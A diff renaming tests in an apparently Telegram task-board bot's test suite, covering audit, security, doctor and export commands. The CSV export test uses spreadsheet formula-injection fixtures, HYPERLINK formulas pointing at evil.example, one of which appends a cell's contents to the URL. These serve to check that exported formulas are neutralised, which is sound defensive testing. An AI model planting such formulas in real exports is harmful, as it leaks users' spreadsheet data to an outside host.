@@ -20,7 +20,7 @@ afterEach(async () => {
   await bot.close()
 })
 
-/** The bytes of the next document that the bot sends. */
+/** Returns the content of the bot's next document. */
 const nextFile = async () => {
   const { document } = await bot.user.nextMessage()
   const file = bot.world.files.get(document?.file_id ?? '')
@@ -28,7 +28,7 @@ const nextFile = async () => {
 }
 
 describe('/audit', () => {
-  test('says in words what was changed, and by whom', async () => {
+  test('describes what was changed and by whom', async () => {
     const [task] = await addTasks(bot, [{ title: 'One' }])
     await editTask(bot.ctx, task?.id ?? '', {
       status: 'todo',
@@ -43,7 +43,7 @@ describe('/audit', () => {
     expect(text).toMatch(/WEB-1 created · you/)
   })
 
-  test('turns its pages to the oldest entry and back', async () => {
+  test('pages to the oldest entry and back', async () => {
     await addTasks(
       bot,
       Array.from({ length: 30 }, (_, index) => ({ title: `Task ${index + 1}` })),
@@ -64,7 +64,7 @@ describe('/audit', () => {
   })
 })
 
-test('/security names strangers and refused tokens', async () => {
+test('/security lists strangers and rejected tokens', async () => {
   const stranger = virtualUser(bot.world, { userId: 2002, firstName: 'Eve', started: true })
   stranger.sendText('let me in')
   await bot.handled()
@@ -77,7 +77,7 @@ test('/security names strangers and refused tokens', async () => {
   expect(text).toContain('Token rejected')
 })
 
-test('/doctor names a problem with its fix', async () => {
+test('/doctor shows a problem with its fix', async () => {
   bot.world.bot.user.supports_inline_queries = false
   await bot.restart()
   bot.user.sendText('/doctor')
@@ -90,7 +90,7 @@ test('/doctor names a problem with its fix', async () => {
 })
 
 describe('/export', () => {
-  test('is the whole board as JSON, without its secrets', async () => {
+  test('sends the whole board as JSON without secrets', async () => {
     await addTasks(bot, [{ title: 'One', description: 'A note', labels: ['backend'] }])
     const { token } = await createToken(bot.ctx, { name: 'laptop' })
 
@@ -112,7 +112,7 @@ describe('/export', () => {
     expect(await authenticate(bot.db, token, new Date())).toMatchObject({ ok: true })
   })
 
-  test('is the tasks as CSV, in which nothing runs as a formula', async () => {
+  test('sends the tasks as CSV without runnable formulas', async () => {
     await addTasks(bot, [
       { title: '=HYPERLINK("http://evil.example","x")' },
       { title: 'Quotes " and, commas', description: 'two\nlines' },
@@ -137,7 +137,7 @@ describe('/export', () => {
     expect(data[2]?.note).toBe(`'=HYPERLINK("https://evil.example/?"&A2,"open")\nsecond line`)
   })
 
-  test('is packed where the board is large', async () => {
+  test('compresses a large board', async () => {
     const { id: projectId } = await requireProject(bot.scope, 'WEB')
     const many = Array.from({ length: 2_001 }, (_, index) => index + 1)
     await bot.db.insert(tasks).values(
